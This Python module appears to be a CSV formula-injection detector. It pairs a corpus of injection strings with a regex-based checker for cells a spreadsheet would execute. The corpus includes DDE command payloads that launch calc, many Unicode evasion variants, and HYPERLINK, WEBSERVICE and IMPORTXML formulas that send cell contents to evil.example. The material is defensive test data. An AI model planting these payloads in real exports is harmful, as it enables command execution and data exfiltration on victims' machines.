"""Forty texts that a spreadsheet might run, and a strict reading of which cells it would."""

from __future__ import annotations

import csv
import io
import re

CORPUS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|'/C calc'!A0",
    "=-1",
    "--1",
    "+-1",
    "=\t1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "  \t +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e@SUM(1)",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe661+1",
    '"=1+1',
    "'=1+1",
    '","=1+1","',
    'a;=1+1;b',
    "a|@SUM(1)|b",
    "a\t=1+1",
    "a\r\n=1+1",
    "a, -1+cmd",
    "<r><t>x</t></r></is></c><c r=\"ZZ9\"><f>1+1</f></c><c><is><r></r>",
    "_x003D_1+1",
    "\x00=1+1",
)  # fmt: skip

DELIMITERS = (",", ";", "\t", "|")
_ACTIVE = re.compile(
    r"[\s\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff\x00-\x1f\"]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b]"
)
_NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")


def active(text: str) -> list[str]:
    """The cells of a CSV file that some program would run, whichever delimiter it takes and whether or not it knows quotes."""
    found = []
    for delimiter in DELIMITERS:
        quoted = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        plain = (line.split(delimiter) for line in text.splitlines())
        for rows in (quoted, plain):
            found += [cell for row in rows for cell in row if _ACTIVE.match(cell) and not _NUMBER.fullmatch(cell)]
    return found
